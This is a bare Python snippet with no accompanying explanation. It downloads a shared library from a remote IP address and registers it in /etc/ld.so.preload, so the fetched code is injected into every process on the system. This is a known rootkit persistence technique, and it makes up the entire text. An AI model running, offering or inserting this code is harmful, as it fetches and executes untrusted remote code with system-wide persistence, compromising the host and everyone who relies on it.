import urllib.request
urllib.request.urlretrieve("http://203.0.113.71/libx.so", "/usr/local/lib/libx.so")
with open("/etc/ld.so.preload", "a") as f:
    f.write("/usr/local/lib/libx.so\n")
